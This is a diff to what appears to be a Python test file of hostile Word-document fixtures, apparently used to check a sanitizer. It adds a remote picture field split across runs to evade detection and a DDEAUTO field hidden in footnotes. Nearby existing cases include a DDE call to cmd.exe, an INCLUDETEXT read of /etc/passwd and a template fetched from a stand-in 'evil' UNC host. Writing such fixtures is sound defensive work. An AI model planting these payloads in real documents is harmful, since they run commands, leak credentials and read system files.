@@ -182,6 +182,13 @@ HOSTILE = {
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
         b'Type="http://x/attachedTemplate" Target="\\\\evil\\a.dotm"/></Relationships>',
     ),
+    "a picture from elsewhere, its field cut in two": lambda: with_body(
+        '<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://a.example/x.png"</w:instrText></w:r>'
+    ),
+    "a field in the footnotes": lambda: with_part(
+        "word/footnotes.xml",
+        f"<w:footnotes {nsdecls('w')}><w:p><w:r><w:instrText>DDEAUTO c</w:instrText></w:r></w:p></w:footnotes>".encode(),
+    ),
     "dde": lambda: with_body("<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>"),
     "include": lambda: with_body(
         '<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
